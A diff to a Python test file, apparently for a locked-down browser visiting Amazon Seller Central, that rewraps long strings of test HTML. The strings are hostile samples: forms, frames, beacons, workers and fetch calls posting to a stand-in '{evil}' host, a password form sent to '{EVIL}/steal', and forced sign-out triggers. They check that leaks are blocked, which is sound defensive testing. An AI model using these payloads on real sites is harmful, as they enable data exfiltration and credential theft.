@@ -67,7 +67,9 @@ async def test_no_other_host_is_navigated_to(world: tuple[Site, Browser, Browser
 LEAKS = {
     "form": "<form id=f method=post action='{evil}/form'><input name=p value=1></form><script>f.submit()</script>",
     "frame": "<iframe src='{evil}/frame'></iframe>",
-    "form in a frame": "<iframe srcdoc=\"<form id=f method=post action='{evil}/inner'></form><script>f.submit()</script>\"></iframe>",
+    "form in a frame": (
+        "<iframe srcdoc=\"<form id=f method=post action='{evil}/inner'></form><script>f.submit()</script>\"></iframe>"
+    ),
     "script's address": "<script>location='{evil}/location'</script>",
 }
 
@@ -89,7 +91,8 @@ NOISE = {
     "request": "<script>const x = new XMLHttpRequest(); x.open('POST', '{evil}/xhr'); x.send('1')</script>",
     "beacon": "<script>navigator.sendBeacon('{evil}/beacon','1')</script>",
     "worker": (
-        "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('{evil}/worker',{{method:'POST',mode:'no-cors',body:'1'}})\"])))</script>"
+        "<script>new Worker(URL.createObjectURL(new "
+        "Blob([\"fetch('{evil}/worker',{{method:'POST',mode:'no-cors',body:'1'}})\"])))</script>"
     ),
 }
 
@@ -118,8 +121,12 @@ LEAVING = {
     "frame": "<iframe src=/sign-out></iframe>",
     "fetch": "<script>fetch('/sign-out')</script>",
     "redirected": "<script src=/leads-out></script>",
-    "page made beforehand": '<script type=speculationrules>{"prerender":[{"urls":["/sign-out"],"eagerness":"immediate"}]}</script>',
-    "page fetched beforehand": '<script type=speculationrules>{"prefetch":[{"urls":["/sign-out"],"eagerness":"immediate"}]}</script>',
+    "page made beforehand": (
+        '<script type=speculationrules>{"prerender":[{"urls":["/sign-out"],"eagerness":"immediate"}]}</script>'
+    ),
+    "page fetched beforehand": (
+        '<script type=speculationrules>{"prefetch":[{"urls":["/sign-out"],"eagerness":"immediate"}]}</script>'
+    ),
     "page that a header's rules name": "",
     "fetched later": "<script>fetchLater('/sign-out', {activateAfter: 0})</script>",
 }
@@ -148,7 +155,8 @@ async def test_doors_that_could_not_be_watched_are_gone(world: tuple[Site, Brows
         assert await visit.page.evaluate(f"typeof {name}") == "undefined"
         assert (
             await visit.page.evaluate(
-                f"() => {{ const i = document.createElement('iframe'); document.body.append(i); return typeof i.contentWindow.{name} }}"
+                f"() => {{ const i = document.createElement('iframe'); document.body.append(i); return typeof "
+                f"i.contentWindow.{name} }}"
             )
             == "undefined"
         )
@@ -185,7 +193,9 @@ WRONG_PLACES = {
     "form to another host": f"<form action='{EVIL}/steal' method=post><input type=password></form>",
     "form to another port": f"<form action='{HOST}:8443/ap/signin' method=post><input type=password></form>",
     "frame without a host": "<iframe srcdoc='<input type=password>'></iframe>",
-    "form without https": "<form action='http://sellercentral.amazon.com/ap/signin' method=post><input type=password></form>",
+    "form without https": (
+        "<form action='http://sellercentral.amazon.com/ap/signin' method=post><input type=password></form>"
+    ),
 }
 
 
@@ -226,7 +236,7 @@ ASKING = """async () => ({
   place: await new Promise(done => navigator.geolocation.getCurrentPosition(() => done('told'), e => done(e.code === 1 ? 'denied' : 'late'),
     {timeout: 3000})),
   camera: await navigator.mediaDevices.getUserMedia({video: true}).then(() => 'seen', e => e.name),
-})"""
+})"""  # noqa: E501 - a text in lines of its own
 
 
 async def test_no_service_worker_is_registered_and_no_permission_is_asked_for(
@@ -261,9 +271,10 @@ async def test_a_visit_that_only_reads_sends_nothing_that_could_change_something
 ) -> None:
     site, browser, options = world
     site.pages["/grid"] = (
-        "<form id=f method=post action='/save'></form><iframe name=t></iframe><iframe src='/sign-out'></iframe><script>f.target='t';"
-        "fetch('/rows');fetch('/api/query',{method:'POST'});fetch('/api/save',{method:'POST'});navigator.sendBeacon('/beacon');"
-        "try{new WebSocket('wss://sellercentral.amazon.com/socket')}catch(e){};try{new Worker('/worker.js')}catch(e){};f.submit()</script>"
+        "<form id=f method=post action='/save'></form><iframe name=t></iframe><iframe "
+        "src='/sign-out'></iframe><script>f.target='t';fetch('/rows');fetch('/api/query',{method:'POST'});fetch('/api/save',{method:'POST'});navigator.sendBeacon('/beacon');"
+        "try{new WebSocket('wss://sellercentral.amazon.com/socket')}catch(e){};try{new "
+        "Worker('/worker.js')}catch(e){};f.submit()</script>"
     )
     async with open_visit(browser, options=options) as visit:
         await visit.page.goto(f"{HOST}/home")
